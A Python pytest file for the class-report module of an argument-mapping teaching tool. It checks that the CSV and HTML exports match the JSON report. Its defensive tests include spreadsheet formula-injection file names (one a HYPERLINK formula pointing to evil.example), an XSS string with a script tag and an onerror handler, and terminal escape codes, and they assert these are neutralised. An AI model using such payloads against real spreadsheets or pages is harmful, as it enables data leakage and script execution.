"""The class's report (argmap.exercises.report): the CSV a spreadsheet reads and the HTML page a
teacher opens and prints, read back with the csv module and an HTML parser and checked against the
JSON report they are made from."""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Collection
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

import argmap
from argmap.errors import ArgmapError, Location, Problem
from argmap.exercises.grading import Grade, grade
from argmap.exercises.report import (
    BINS,
    PARTS,
    class_report,
    encode,
    histogram,
    kind_name,
    spreadsheet_cell,
    to_csv,
    to_html,
    to_json,
)
from argmap.i18n import using
from argmap.model import ArgumentMap, Kind
from tests.language import english_sentences

ROOT = Path(__file__).resolve().parent.parent
KEY = ROOT / "examples" / "nato-tokyo" / "map.argmap.yaml"
KEY_EN = ROOT / "examples" / "nato-tokyo" / "map.en.argmap.yaml"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


# --------------------------------------------------------------------------- a class


def without(amap: ArgumentMap, drop: Collection[str]) -> ArgumentMap:
    """``amap`` without the claims ``drop``, and without what then has nothing to stand on."""
    claims = {k: c for k, c in amap.claims.items() if k not in drop}
    infs = {}
    for k, inf in amap.inferences.items():
        premises = tuple(p for p in inf.premises if p in claims)
        if inf.conclusion in claims and premises:
            infs[k] = attrs.evolve(inf, premises=premises)
    ends = {*claims, *infs}
    atts = {k: a for k, a in amap.attacks.items() if a.source in ends and a.target in ends}
    return ArgumentMap(title=amap.title, lang=amap.lang, claims=claims, inferences=infs, attacks=atts)


def hardest_claim(amap: ArgumentMap) -> str:
    return next(k for k, c in amap.claims.items() if c.kind is Kind.ASSUMPTION)


def a_class(key: ArgumentMap) -> list[tuple[str, Grade | ArgmapError]]:
    """Five students (a copy, three partial maps, an empty one) and one file that did not load.

    Every partial map leaves out the key's first hidden premise, so it is the element found by
    the fewest (only the copy has it)."""
    hard = hardest_claim(key)
    ids = list(key.claims)
    half = set(ids[: len(ids) // 2]) | {hard}
    maps = {
        "copy.argmap.yaml": key,
        "no-hidden.argmap.yaml": without(key, {hard}),
        "some.argmap.yaml": without(key, {hard, *ids[-4:]}),
        "half.argmap.yaml": without(key, half),
        "empty.argmap.yaml": ArgumentMap(title="empty", lang=key.lang),
    }
    entries: list[tuple[str, Grade | ArgmapError]] = [(name, grade(key, m)) for name, m in maps.items()]
    first, second = ("書き方の誤り", "もう一つの誤り") if key.lang == "ja" else ("a bad line", "another")
    bad = ArgmapError([Problem(first, Location("bad.argmap.yaml", 3, 7)), Problem(second)])
    entries.insert(2, ("bad.argmap.yaml", bad))
    return entries


@pytest.fixture(scope="module")
def key() -> ArgumentMap:
    return argmap.load(KEY)


@pytest.fixture(scope="module")
def report(key: ArgumentMap) -> dict[str, Any]:
    return class_report(str(KEY), key, a_class(key))


# --------------------------------------------------------------------------- the JSON report


def test_the_report_is_the_grades_and_their_summary(key: ArgumentMap) -> None:
    entries = a_class(key)
    report = class_report("k.yaml", key, entries)
    grades = [g for _, g in entries if isinstance(g, Grade)]
    assert [r["file"] for r in report["students"]] == [f for f, _ in entries]
    assert report["class"]["students"] == len(grades)
    assert math.isclose(report["class"]["mean_score"], sum(g.score for g in grades) / len(grades))
    (bad,) = [r for r in report["students"] if r["score"] is None]
    assert bad["errors"] == [
        {"line": 3, "column": 7, "message": "書き方の誤り"},
        {"line": None, "column": None, "message": "もう一つの誤り"},
    ]
    found = {e["key"]: e["found_by"] for e in report["class"]["elements"]}
    for k in key.claims:
        assert math.isclose(found[k], sum(k in g.matched.values() for g in grades) / len(grades))
    assert report["class"]["elements"][0]["key"] == hardest_claim(key)
    assert to_json(report).endswith("}\n")


def test_no_student_graded_gives_an_empty_summary(key: ArgumentMap) -> None:
    bad = ArgmapError([Problem("broken", Location("x.yaml", 1, 1))])
    report = class_report("k.yaml", key, [("x.yaml", bad)])
    assert report["class"]["students"] == 0 and report["class"]["mean_score"] == 0.0
    assert all(e["found_by"] == 0.0 for e in report["class"]["elements"])
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert len(rows) == 3 and all(cell == "" for cell in rows[-1][1:])
    page = Page.of(to_html(report, key))
    assert not page.count("rect", cls="bar")
    assert page.count("li", within="errors") == 1


# --------------------------------------------------------------------------- CSV


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_is_the_json_report_as_a_table(report: dict[str, Any]) -> None:
    with using("en"):
        rows = csv_rows(to_csv(report))
    header, *students, last = rows
    elements = [e["key"] for e in report["class"]["elements"]]
    fixed = 4 + len(PARTS)  # file, score, parts..., feedback items, errors
    assert header[fixed:] == elements
    assert header[:2] == ["File", "Score"]
    assert len(students) == len(report["students"])
    for row, cells in zip(report["students"], students, strict=True):
        assert len(cells) == len(header)
        assert cells[0] == row["file"]
        if row["score"] is None:
            assert cells[1 : fixed - 1] == [""] * (fixed - 2)
            assert cells[fixed - 1].splitlines() == [
                "bad.argmap.yaml:3:7: 書き方の誤り",
                "bad.argmap.yaml: もう一つの誤り",
            ]
            assert cells[fixed:] == [""] * len(elements)
            continue
        assert math.isclose(float(cells[1]), row["score"], abs_tol=5e-5)
        for (part, measure, _h), cell in zip(PARTS, cells[2 : 2 + len(PARTS)], strict=True):
            assert math.isclose(float(cell), row["scores"][part][measure], abs_tol=5e-5)
        assert int(cells[2 + len(PARTS)]) == len(row["feedback"])
        assert cells[fixed - 1] == ""
        found = set(elements) - set(row["missed"])  # found: whatever the grade does not list as missed
        assert cells[fixed:] == ["1" if k in found else "0" for k in elements]
    assert math.isclose(float(last[1]), report["class"]["mean_score"], abs_tol=5e-5)
    shares = [float(c) for c in last[fixed:]]
    assert shares == sorted(shares)
    for e, share in zip(report["class"]["elements"], shares, strict=True):
        assert math.isclose(share, e["found_by"], abs_tol=5e-5)
    # each element's share is the mean of its column
    for j in range(len(elements)):
        column = [int(r[fixed + j]) for r in students if r[fixed + j] != ""]
        assert math.isclose(shares[j], sum(column) / len(column), abs_tol=5e-5)


def test_csv_headings_are_japanese_in_japanese(report: dict[str, Any]) -> None:
    with using("ja"):
        header, *_, last = csv_rows(to_csv(report))
    assert header[0] == "ファイル" and header[1] == "得点"
    assert english_sentences("\n".join([*header, last[0]])) == []


def test_csv_has_a_byte_order_mark_and_crlf_lines(report: dict[str, Any]) -> None:
    data = encode("csv", to_csv(report))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") >= len(report["students"]) + 2
    assert csv_rows(data.decode("utf-8-sig"))[0][0] in ("File", "ファイル")
    assert not encode("json", to_json(report)).startswith(b"\xef\xbb\xbf")


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/"&A1,"click").yaml',
    "+1+1.yaml",
    "-2+3.yaml",
    "@SUM(A1:A9).yaml",
    "\tTAB.yaml",
    'comma, "quoted"\nand a new line.yaml',
    "名前,カンマ.yaml",
]


def test_csv_keeps_hostile_file_names_as_text(key: ArgumentMap) -> None:
    student = grade(key, without(key, {hardest_claim(key)}))
    bad = ArgmapError([Problem("=1+1 is not YAML", Location("x", 2, 3))])
    entries: list[tuple[str, Grade | ArgmapError]] = [(n, student) for n in HOSTILE_NAMES]
    entries.append(("=bad.yaml", bad))
    rows = csv_rows(to_csv(class_report("k.yaml", key, entries)))
    names = [r[0] for r in rows[1:-1]]
    for name, cell in zip([*HOSTILE_NAMES, "=bad.yaml"], names, strict=True):
        if name.startswith(FORMULA):
            assert cell == "'" + name
        else:
            assert cell == name
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), cell
    error_cell = rows[-2][2 + len(PARTS) + 1]
    assert error_cell == "'=bad.yaml:2:3: =1+1 is not YAML"


@given(st.text())
def test_a_spreadsheet_cell_never_starts_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA))


@given(st.one_of(st.none(), st.integers(), st.floats(allow_nan=False)))
def test_numbers_are_left_as_numbers(value: object) -> None:
    assert spreadsheet_cell(value) == value


# --------------------------------------------------------------------------- histogram


@given(st.lists(st.integers(min_value=0, max_value=10_000)))
def test_histogram_puts_each_score_in_its_bin(tenthousandths: list[int]) -> None:
    counts = histogram([n / 10_000 for n in tenthousandths])
    assert len(counts) == BINS and sum(counts) == len(tenthousandths)
    expected = [0] * BINS
    for n in tenthousandths:  # 0.3 is in the bin 0.3-0.4; 1.0 in the last
        expected[min(n * BINS // 10_000, BINS - 1)] += 1
    assert counts == expected


def test_histogram_bounds() -> None:
    assert histogram([0.1, 0.2, 0.3, 0.7, 0.9, 0.99, 1.0]) == [0, 1, 1, 1, 0, 0, 0, 1, 0, 3]


# --------------------------------------------------------------------------- HTML


class Page(HTMLParser):
    """A page read back: its elements (tag, attributes, the ids of the sections around it) and texts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str], tuple[str, ...]]] = []
        self.texts: list[tuple[str, tuple[str, ...], tuple[str, ...]]] = []
        self.stack: list[tuple[str, dict[str, str]]] = []

    VOID = frozenset({"meta", "br", "img", "input", "link", "hr"})

    @classmethod
    def of(cls, text: str) -> Page:
        page = cls()
        page.feed(text)
        page.close()
        return page

    def handle_starttag(self, tag: str, attrs_: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs_}
        self.elements.append((tag, a, self.ids()))
        if tag not in self.VOID:
            self.stack.append((tag, a))

    def handle_startendtag(self, tag: str, attrs_: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs_}, self.ids()))

    def handle_endtag(self, tag: str) -> None:
        if any(t == tag for t, _a in self.stack):
            while self.stack.pop()[0] != tag:
                pass

    def handle_data(self, data: str) -> None:
        self.texts.append((data, tuple(t for t, _a in self.stack), self.ids()))

    def ids(self) -> tuple[str, ...]:
        return tuple(a["id"] for _t, a in self.stack if "id" in a)

    def find(self, tag: str, *, cls: str | None = None, within: str | None = None) -> list[dict[str, str]]:
        return [
            a
            for t, a, ids in self.elements
            if t == tag
            and (cls is None or cls in a.get("class", "").split())
            and (within is None or within in ids)
        ]

    def count(self, tag: str, *, cls: str | None = None, within: str | None = None) -> int:
        return len(self.find(tag, cls=cls, within=within))

    def text(self, within: str | None = None) -> str:
        return "\n".join(
            d for d, tags, ids in self.texts if "style" not in tags and (within is None or within in ids)
        )


def test_html_is_one_self_contained_page(report: dict[str, Any], key: ArgumentMap) -> None:
    with using("ja"):
        text = to_html(report, key)
    page = Page.of(text)
    assert text.startswith("<!DOCTYPE html>")
    (root,) = page.find("html")
    assert root["lang"] == "ja"
    (policy,) = [a for a in page.find("meta") if a.get("http-equiv") == "Content-Security-Policy"]
    assert "default-src 'none'" in policy["content"] and "script-src" not in policy["content"]
    assert not page.find("script") and not page.find("link") and not page.find("img")
    assert not re.search(r"\b(?:src|href)=", text)
    assert "http://" not in text.replace("http://www.w3.org/2000/svg", "")
    (title,) = [d for d, tags, _ in page.texts if tags[-1:] == ("title",) and "chart-title" not in _]
    assert key.title in title
    assert '"Noto Sans CJK JP"' in text and "@page { size: A4" in text


def test_html_shows_the_class(report: dict[str, Any], key: ArgumentMap) -> None:
    with using("en"):
        page = Page.of(to_html(report, key))
    graded = [r for r in report["students"] if r["score"] is not None]
    # the chart: a bar per non-empty bin, its count written
    counts = histogram([r["score"] for r in graded])
    bars = page.find("rect", cls="bar", within="distribution")
    assert len(bars) == sum(1 for c in counts if c)
    assert [int(b["data-count"]) for b in bars] == [c for c in counts if c]
    heights = {int(b["data-count"]): float(b["height"]) for b in bars}
    assert all(h > 0 for h in heights.values())
    assert sorted(heights, key=lambda c: heights[c]) == sorted(heights)  # taller for more students
    labels = page.text(within="distribution").split("\n")
    assert {"0.0", "0.5", "1.0", "Score", "Number of students"} <= set(labels)
    # the key's elements, from the hardest, with kind and text from the key
    rows = page.find("tr", within="elements")[1:]
    assert [r["data-key"] for r in rows] == [e["key"] for e in report["class"]["elements"]]
    assert rows[0]["data-key"] == hardest_claim(key)
    shown = page.text(within="elements")
    for claim in key.claims.values():
        assert claim.text in shown
    with using("en"):
        assert kind_name(Kind.ASSUMPTION) in shown
    # the students: one row each, feedback folded
    assert page.count("tr", cls="student", within="students") == len(graded)
    assert page.count("details", within="students") == sum(1 for r in graded if r["feedback"])
    # the files that did not load, their errors located
    errors = page.text(within="errors")
    assert "bad.argmap.yaml:3:7: 書き方の誤り" in errors and "bad.argmap.yaml: もう一つの誤り" in errors


def test_html_in_japanese_has_no_english(report: dict[str, Any], key: ArgumentMap) -> None:
    with using("ja"):
        page = Page.of(to_html(report, key))
    assert english_sentences(page.text()) == []


def test_html_in_english_is_english() -> None:
    key = argmap.load(KEY_EN)
    report = class_report("key.yaml", key, a_class(key))
    with using("en"):
        text = to_html(report, key)
    page = Page.of(text)
    assert page.find("html")[0]["lang"] == "en"
    words = page.text()
    assert "Score distribution" in words and "What the class found, hardest first" in words
    assert not re.search("[\u3040-\u30ff]", words)


HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>"\'&amp;'


def test_html_escapes_hostile_names_and_texts(key: ArgumentMap) -> None:
    hard = hardest_claim(key)
    evil_key = attrs.evolve(
        key,
        title=HOSTILE,
        claims={k: attrs.evolve(c, text=HOSTILE + c.text) if k == hard else c for k, c in key.claims.items()},
    )
    student = grade(evil_key, without(evil_key, {hard}))
    bad = ArgmapError([Problem(HOSTILE, Location("x", 1, 2))])
    report = class_report(HOSTILE, evil_key, [(HOSTILE + ".yaml", student), (HOSTILE, bad)])
    text = to_html(report, evil_key)
    page = Page.of(text)
    assert not page.find("script") and not page.find("img")
    assert not any("onerror" in a for _t, a, _ids in page.elements)
    shown = page.text()
    assert HOSTILE + ".yaml" in shown  # the file name, as written
    assert f"{HOSTILE}:1:2: {HOSTILE}" in shown  # the error, located
    assert HOSTILE + key.claims[hard].text in shown  # the key's text
    assert page.find("tr", within="elements")[1]["data-key"] == hard


def test_html_shows_control_characters_as_escapes(key: ArgumentMap) -> None:
    student = grade(key, key)
    text = to_html(class_report("k", key, [("a\x1b[2Jb\x07.yaml", student)]), key)
    assert "\x1b" not in text and "\x07" not in text
    assert "a\\x1b[2Jb\\x07.yaml" in Page.of(text).text()


def test_every_kind_has_a_name() -> None:
    for lang in ("en", "ja"):
        with using(lang):
            names = {kind: kind_name(kind) for kind in Kind}
        assert all(names.values())
        assert len(set(names.values())) == len(names)
    with using("ja"):
        assert kind_name(Kind.ASSUMPTION) == "隠れた前提" and kind_name(Kind.EVIDENCE) == "証拠"


def test_a_key_claim_left_blank_shows_its_prompt(key: ArgumentMap) -> None:
    hard = hardest_claim(key)
    claims = {
        k: attrs.evolve(c, text="", blank=True, prompt="What is missing here?") if k == hard else c
        for k, c in key.claims.items()
    }
    blank_key = attrs.evolve(key, claims=claims)
    page = Page.of(to_html(class_report("k", blank_key, [("s", grade(blank_key, key))]), blank_key))
    assert "What is missing here?" in page.text(within="elements")


@given(st.floats(min_value=0.0, max_value=1.0))
def test_a_shown_score_reaches_an_end_only_when_the_score_does(value: float) -> None:
    from argmap.exercises.report import shown

    s = shown(value)
    assert (s == 1.0) == (value == 1.0)
    assert (s == 0.0) == (value == 0.0)
    assert abs(s - value) <= 0.01 + 1e-12
    assert s == round(s, 2)
    percent = shown(100 * value, 0, 100)
    assert (percent == 100) == (value == 1.0) and (percent == 0) == (value == 0.0)
